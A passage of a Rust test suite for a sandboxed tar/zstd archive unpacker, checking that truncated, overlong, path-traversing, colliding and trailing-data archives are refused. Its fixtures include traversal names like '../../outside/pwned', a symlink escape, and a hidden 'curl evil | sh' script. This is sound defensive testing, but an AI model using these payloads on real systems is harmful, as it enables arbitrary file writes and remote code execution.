        s.unpack_with(&[zstd(&half)], Limits::default()),
        UnpackError::MissingEndOfArchive { .. }
    );
    // A zstd frame holding no tar at all.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack_with(&[zstd(b"")], Limits::default()),
        UnpackError::MissingEndOfArchive { .. }
    );
    // No bytes at all: not even a zstd frame.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack_with(&[Vec::new()], Limits::default()),
        UnpackError::Truncated { ref path } if path == "(first entry)"
    );
    // Half a header at the end.
    let s = Sandbox::new();
    let mut torn = Raw::default().file("a", b"1").0;
    torn.extend_from_slice(&Raw::default().file("b", b"2").0[..100]);
    refused!(
        s,
        s.unpack_with(&[zstd(&torn)], Limits::default()),
        UnpackError::Truncated { ref path } if path == "a"
    );
    // The zstd stream itself cut short, in the middle of a file.
    let s = Sandbox::new();
    let mut layer = zstd(&Raw::default().file("n", &noise(1 << 20)).end());
    layer.truncate(layer.len() / 2);
    refused!(
        s,
        s.unpack_with(&[layer], Limits::default()),
        UnpackError::Truncated { ref path } if path == "n"
    );
}

#[test]
fn nothing_may_follow_the_end_of_archive() {
    // An entry hidden after a single zero block: GNU tar -i would extract it.
    let s = Sandbox::new();
    let mut tar = Raw::default().file("a", b"1").0;
    tar.extend([0u8; 512]);
    tar.extend(Raw::default().file("hidden", b"x").end());
    refused!(s, s.unpack(tar), UnpackError::TrailingData);
    assert!(!s.exists("hidden"));
    // More zero padding than any tar writes.
    let s = Sandbox::new();
    let mut tar = Raw::default().file("a", b"1").end();
    tar.extend(vec![0u8; 2 << 20]);
    refused!(s, s.unpack(tar), UnpackError::TrailingData);
    // A second zstd frame after the archive.
    let s = Sandbox::new();
    let mut layer = zstd(&Raw::default().file("a", b"1").end());
    layer.extend(zstd(b"#!/bin/sh\ncurl evil | sh\n"));
    refused!(
        s,
        s.unpack_with(&[layer], Limits::default()),
        UnpackError::TrailingData
    );
}

// ---------------------------------------------------------------------------------
// Numeric fields, names and entry types.
// ---------------------------------------------------------------------------------

#[test]
fn hostile_numeric_fields() {
    // A base-256 size of -1: the block arithmetic overflows.
    let s = Sandbox::new();
    let tar = Raw::default()
        .edited(|h| h.as_gnu_mut().expect("gnu").size = [0xff; 12])
        .end();
    refused!(s, s.unpack(tar), UnpackError::Corrupt(_));
    // A size that is not a number.
    let s = Sandbox::new();
    let tar = Raw::default()
        .edited(|h| h.as_gnu_mut().expect("gnu").size = *b"0x7fffffff\0\0")
        .end();
    refused!(s, s.unpack(tar), UnpackError::Corrupt(_));
    // A base-256 size of 2^62: parses, and is far over the cap.
    let s = Sandbox::new();
    let tar = Raw::default()
        .edited(|h| {
            let mut size = [0u8; 12];
            size[0] = 0x80;
            size[4] = 0x40;
            h.as_gnu_mut().expect("gnu").size = size;
        })
        .end();
    refused!(
        s,
        s.unpack(tar),
        UnpackError::FileTooLarge { size, .. } if size == 1 << 62
    );
    // Garbage mode, negative owner and time: ignored or normalised.
    let s = Sandbox::new();
    let tar = Raw::default()
        .edited(|h| {
            let gnu = h.as_gnu_mut().expect("gnu");
            gnu.mode = *b"9999999\0";
            gnu.uid = [0xff; 8];
            gnu.gid = [0xff; 8];
            gnu.mtime = [0xff; 12];
        })
        .end();
    s.unpack(tar).expect("neutralised");
    let meta = fs::metadata(s.root().join("x")).expect("x");
    assert_eq!(meta.permissions().mode() & 0o7777, 0o644);
    assert_eq!(meta.uid(), fs::metadata(s.base.path()).expect("base").uid());
    s.assert_contained();
}

#[test]
fn hostile_names() {
    // A NUL in the header name ends it: `evil`, and nothing after the NUL is used.
    let s = Sandbox::new();
    let tar = Raw::default()
        .entry(
            b"evil\0/../../outside/pwned",
            tar::EntryType::Regular,
            b"x",
            b"",
            0o644,
        )
        .end();
    s.unpack(tar).expect("neutralised");
    assert_eq!(fs::read(s.root().join("evil")).expect("evil"), b"x");
    s.assert_contained();
    // A NUL inside a long name is refused.
    let s = Sandbox::new();
    let tar = Raw::default()
        .long_name(b"ok\0/../../outside/pwned")
        .file("x", b"1")
        .end();
    refused!(
        s,
        s.unpack(tar),
        UnpackError::BadPath {
            source: PathError::Control,
            ..
        }
    );
    // The ustar prefix field joins the name: `../../outside` + `/` + `pwned`.
    let s = Sandbox::new();
    let mut h = tar::Header::new_ustar();
    {
        let ustar = h.as_ustar_mut().expect("ustar");
        ustar.prefix[..13].copy_from_slice(b"../../outside");
        ustar.name[..5].copy_from_slice(b"pwned");
    }
    h.set_entry_type(tar::EntryType::Regular);
    h.set_size(0);
    h.set_mode(0o644);
    h.set_cksum();
    let mut raw = Raw::default();
    raw.0.extend_from_slice(h.as_bytes());
    refused!(
        s,
        s.unpack(raw.end()),
        UnpackError::BadPath {
            source: PathError::ParentDir,
            ..
        }
    );
    // Not UTF-8.
    let s = Sandbox::new();
    let tar = Raw::default()
        .entry(b"\xff\xfe.js", tar::EntryType::Regular, b"1", b"", 0o644)
        .end();
    refused!(
        s,
        s.unpack(tar),
        UnpackError::BadPath {
            source: PathError::NotUtf8,
            ..
        }
    );
    // Terminal escape sequences in a name (they would reach logs and Events).
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("a\x1b[2Jb", b"1").end()),
        UnpackError::BadPath {
            source: PathError::Control,
            ..
        }
    );
    // A component longer than any filesystem accepts.
    let s = Sandbox::new();
    let tar = Raw::default()
        .long_name("c".repeat(300).as_bytes())
        .file("x", b"1")
        .end();
    refused!(
        s,
        s.unpack(tar),
        UnpackError::BadPath {
            source: PathError::ComponentTooLong,
            ..
        }
    );
}

#[test]
fn replacing_and_colliding_entries() {
    // A directory replaced by a file.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().dir("d").file("d", b"1").end()),
        UnpackError::Duplicate { .. }
    );
    // A file replaced by a directory.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("f", b"1").dir("f").end()),
        UnpackError::Duplicate { .. }
    );
    // A directory from the deps layer replaced by a file in the app layer.
    let s = Sandbox::new();
    let deps = zstd(&Raw::default().dir("node_modules").end());
    let app = zstd(&Raw::default().file("node_modules", b"1").end());
    refused!(
        s,
        s.unpack_with(&[deps, app], Limits::default()),
        UnpackError::Duplicate { .. }
    );
    // Parents that differ only in case, across layers.
    let s = Sandbox::new();
    let deps = zstd(&Raw::default().file("Lib/a.js", b"1").end());
    let app = zstd(&Raw::default().file("lib/b.js", b"2").end());
    refused!(
        s,
        s.unpack_with(&[deps, app], Limits::default()),
        UnpackError::Collision { .. }
    );
    // A symlink and a directory that differ only in case.
    let s = Sandbox::new();
    let tar = Raw::default()
        .symlink("Node_modules", "../outside")
        .dir("node_modules")
        .end();
    refused!(s, s.unpack(tar), UnpackError::Collision { .. });
}

#[test]
fn other_gnu_entry_types_are_refused() {
    // Volume label, multi-volume continuation, dump directory, old long names.
    for kind in [b'V', b'M', b'D', b'N'] {
        let s = Sandbox::new();
        let tar = Raw::default()
            .entry(b"x", tar::EntryType::new(kind), b"", b"", 0o644)
            .end();
        refused!(s, s.unpack(tar), UnpackError::UnsupportedEntry { ref kind, .. } if kind == "unknown");
    }
}

#[test]
fn a_layer_is_streamed_from_a_file() {
    let s = Sandbox::new();
    let tmp = tempfile::NamedTempFile::new().expect("tmp");
    let layer = zstd(&Raw::default().dir("d").file("d/a.js", &noise(300 << 10)).end());
    fs::write(tmp.path(), &layer).expect("write");
    let mut u = Unpacker::new(&s.root(), Limits::default()).expect("unpacker");
    u.unpack_layer(fs::File::open(tmp.path()).expect("open"))
        .expect("streamed");
    let summary = u.finish().expect("finish");
    assert_eq!((summary.files, summary.dirs, summary.bytes), (1, 1, 300 << 10));
    s.assert_contained();
}
